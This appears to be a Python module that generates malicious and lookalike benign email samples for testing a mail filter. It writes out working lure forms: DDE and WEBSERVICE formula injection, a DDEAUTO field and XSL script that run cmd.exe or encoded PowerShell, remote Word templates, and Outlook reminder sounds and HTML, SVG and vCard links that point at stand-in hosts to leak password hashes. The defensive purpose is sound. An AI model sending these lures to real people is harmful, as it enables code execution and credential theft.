"""mail_lures.py - mails whose danger is in what their receiver's programs do with an attachment or an address.

tricks() gives (name, mail), none of which may be clean; near() gives what offices send in the same forms, which must
be. They are made with Python's email library. Nothing in them runs or leads anywhere.
"""
import struct
from email.message import EmailMessage

import mail_binary as binary
import mail_corpus as corpus
from mail_tricks import packed

HOST = "192.0.2.77"
SHARES = [f"\\\\{HOST}\\x\\a.png", f"file://{HOST}/x/a.png", f"file:////{HOST}/x/a.png", f"\\\\{HOST}@80\\x\\a.png",
          "\\\\x1.evil.example.com@SSL\\x\\a.png"]
OFFICE = ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head>'
          "%s</head><body>%s</body></html>")
SCRIPT = "<script>location.href='http://x1.evil.example/'</script>"
APPOINTMENTS = bytes.fromhex("0820060000000000c000000000000046")  # PSETID_Common, [MS-OXPROPS] 1.3.2


def letter(text="Please see below.", html=None):
    m = EmailMessage()
    m["From"] = "Taro <taro@partner.example>"
    m["To"] = "office@office.example"
    m["Subject"] = "hello"
    m["Date"] = "Sun, 01 Feb 2026 09:00:00 +0000"
    m["Message-ID"] = "<a@partner.example>"
    m.set_content(text)
    if html is not None:
        m.add_alternative(f"<html><body><p>Please see below, as we said on the phone on Monday.</p>{html}</body></html>",
                          subtype="html")
    return m


def shown(html):
    return letter(html=html).as_bytes()


def attached(name, data, kind="application/octet-stream", text="Please see the file."):
    m = letter(text)
    main, sub = kind.split("/")
    m.add_attachment(data.encode() if isinstance(data, str) else data, maintype=main, subtype=sub, filename=name)
    return m.as_bytes()


# --- files that a double click runs ---

def programs():
    python = "import os\nos.system('calc.exe')\n"
    for ending, data in [("py", python), ("pyw", python), ("pyc", b"\x6f\r\r\n" + bytes(200)), ("pl", "system('calc.exe');\n"),
                         ("a3x", b"\xa3\x48\x4b\xbe" + bytes(100)), ("jnlp", "<jnlp/>"), ("appref-ms", "http://x1.evil.example/a#a"),
                         ("application", "<assembly/>"), ("ps1xml", "<Configuration/>"), ("msc", "<MMC_ConsoleFile/>"),
                         ("rb", "system('calc.exe')\n"), ("tcl", "exec calc.exe &\n"), ("lua", "os.execute('calc.exe')\n"),
                         ("oxt", packed({"META-INF/manifest.xml": b"<x/>"})), ("fas", b"FAS4-FILE"), ("odc", "<html></html>"),
                         ("pst", b"!BDN" + bytes(200))]:
        yield f"file .{ending}", attached("x." + ending, data)
    for ending in ("py", "pyc", "pl", "application"):
        yield f"file .{ending} in a zip", attached("x.zip", packed({"x." + ending: python.encode(), "readme.txt": b"hello"}))
    style = ("<?xml version='1.0'?><stylesheet xmlns='http://www.w3.org/1999/XSL/Transform' version='1.0' "
             "xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script implements-prefix='user' language='JScript'><![CDATA["
             'var r=new ActiveXObject("WScript.Shell");r.Run("powershell -enc AAAA");]]></ms:script></stylesheet>')
    yield "script in a style sheet", attached("x.xsl", style)


# --- sheets and pages that office programs open ---

def mhtml(page):
    return ("MIME-Version: 1.0\r\nSubject: a\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n"
            f"Content-Location: file:///C:/x.htm\r\n\r\n{page}\r\n--b--\r\n")


def documents():
    for formula in ("=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", f'=WEBSERVICE("http://{HOST}/"&A1)'):
        quoted = formula.replace('"', "&quot;")
        yield f"table called .xls: {formula}", attached("x.xls", f"<html><body><table><tr><td>{quoted}</td></tr></table></body></html>")
        yield f"formula of a table: {formula}", attached("x.xls", f'<table><tr><td x:fmla="{quoted}">1</td></tr></table>')
        doubled = formula.replace('"', '""')
        for ending in ("csv", "xls", "xlt", "xlw"):
            yield f"commas called .{ending}: {formula}", attached("x." + ending, f'a,b\r\n"{doubled}",1\r\n')
    template = f'<xml><w:WordDocument><w:AttachedTemplate HRef="http://{HOST}/a.dotm"/></w:WordDocument></xml>'
    begin, end = '<span style="mso-element:field-begin"></span>', '<span style="mso-element:field-end"></span>'
    pages = [("template", OFFICE % (f"<!--[if gte mso 9]>{template}<![endif]-->", "hello")),
             ("macros elsewhere", OFFICE % (f'<link rel=Edit-Time-Data href="http://{HOST}/editdata.mso">', "hello")),
             ("field", OFFICE % ("", f'{begin} DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" {end}')),
             ("object", OFFICE % ("", f'<object data="mhtml:http://{HOST}/a.html!x-usc:http://{HOST}/a.html"></object>'))]
    for name, page in pages:
        for ending in ("doc", "html", "rtf"):
            yield f"page called .{ending}: {name}", attached("x." + ending, page)
        yield f"MHTML called .doc: {name}", attached("x.doc", mhtml(page))
    yield "MHTML called .doc: script", attached("x.doc", mhtml(f"<html><body>{SCRIPT}</body></html>"))
    for name, inside in [("template", r"{\*\template http://192.0.2.77/x.dotm}"), ("file", r"{\*\filetbl{\file\fid0\fnetwork \\\\192.0.2.77\\x\\a.rtf}}"),
                         ("picture", r"{\shp{\*\shpinst{\sp{\sn pibName}{\sv \\\\192.0.2.77\\x\\a.png}}}}")]:
        yield f"RTF called .doc: {name}", attached("x.doc", r"{\rtf1\ansi" + inside + "hello}")


# --- what shows a password's hash to a file server ---

def reminder_message(sound):
    """A message of Outlook ([MS-OXMSG]) whose property 0x8000 is the sound of its reminder."""
    wide = sound.encode("utf-16-le")
    return binary.compound({
        "__properties_version1.0": bytes(32), "__substg1.0_0037001F": "meeting".encode("utf-16-le"), "__substg1.0_8000001F": wide,
        "__nameid_version1.0/__substg1.0_00020102": APPOINTMENTS, "__nameid_version1.0/__substg1.0_00040102": b"",
        "__nameid_version1.0/__substg1.0_00030102": struct.pack("<IHH", 0x851F, 6, 0)}, "00020d0b-0000-0000-c000-000000000046")


def reminder_tnef(sound):
    """winmail.dat ([MS-OXTNEF]) with the same."""
    wide = sound.encode("utf-16-le") + b"\0\0"
    body = (struct.pack("<IHH", 1, 0x1F, 0x8000) + APPOINTMENTS + struct.pack("<II", 0, 0x851F) + struct.pack("<II", 1, len(wide)) +
            wide + bytes(-len(wide) % 4))
    return struct.pack("<IH", 0x223E9F78, 1) + struct.pack("<BII", 1, 0x69003, len(body)) + body + struct.pack("<H", sum(body) & 0xFFFF)


def reminders(sound):
    yield "reminder in a message of Outlook", attached("x.msg", reminder_message(sound), "application/vnd.ms-outlook")
    yield "reminder in winmail.dat", attached("winmail.dat", reminder_tnef(sound), "application/ms-tnef")


SHARE_TAGS = ['<img src="{}">', '<img srcset="{} 2x">', '<div style="background:url({})">x</div>', '<iframe src="{}"></iframe>',
              '<object data="{}"></object>', '<audio src="{}"></audio>', '<script src="{}"></script>', '<form action="{}"></form>',
              '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">', "<style>body{{background:url('{}')}}</style>"]
SHARE_SVG = ['<image xlink:href="{}"/>', '<use href="{}"/>', '<filter id="a"><feImage href="{}"/></filter>',
             '<style>@import url("{}");</style>']


def shares():
    yield from reminders(f"\\\\{HOST}\\x\\a.wav")
    for share in SHARES:
        for tag in SHARE_TAGS:
            yield f"share: {tag.format(share)}", shown(tag.format(share))
        for tag in SHARE_SVG:
            svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{tag.format(share)}</svg>'
            yield f"share in SVG: {tag.format(share)}", attached("x.svg", svg, "image/svg+xml")
        yield f"share in a card: {share}", attached("x.vcf", f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nPHOTO;VALUE=URI:{share}\r\nEND:VCARD\r\n")
        yield f"share in a list of films: {share}", attached("x.asx", f'<asx version="3.0"><entry><ref href="{share}"/></entry></asx>')
        font = f'<office:document-styles><svg:font-face-uri xlink:href="{share}"/></office:document-styles>'
        yield f"share for a font of ODF: {share}", attached("x.odt", packed({
            "mimetype": b"application/vnd.oasis.opendocument.text", "styles.xml": font.encode(), "META-INF/manifest.xml": b"<x/>"}))
    yield "share in a style, with escapes", shown(f'<style>body{{background:url(\\66 ile://{HOST}/a.png)}}</style>')


def tricks():
    for group in (programs, documents, shares):
        yield from group()


def near():
    yield "program of Python with its files", attached("x.zip", packed({"main.py": b"print(1)\n", "README.md": b"hello"}))
    yield "text of Ruby", attached("x.rb", 'puts "hello"\n')
    yield "table called .xls", attached("x.xls", "<html><body><table><tr><td>-5</td><td>=SUM(A1:A2)</td></tr></table></body></html>")
    page = OFFICE % ('<link rel=File-List href="x_files/filelist.xml"><link rel=Edit-Time-Data href="x_files/editdata.mso">', "hello")
    yield "page that Word saved", attached("x.html", page)
    yield "commas with quotes", attached("x.csv", 'a,b\r\n"he said ""- yes (really)""",1\r\n')
    yield from reminders("reminder.wav")
    for tag in SHARE_TAGS:
        share = tag.format("\\\\fileserver\\x\\a.png")
        yield f"share of the house: {share}", shown(share)
    yield "style with escapes", shown('<style>.a\\:b{content:"\\201C"}</style>')
    yield "photo of a card", attached("x.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nPHOTO;VALUE=URI:https://www.partner.example/a.png\r\nEND:VCARD\r\n")
    yield "document", attached("x.docx", corpus.docx(corpus.Maker("near")))
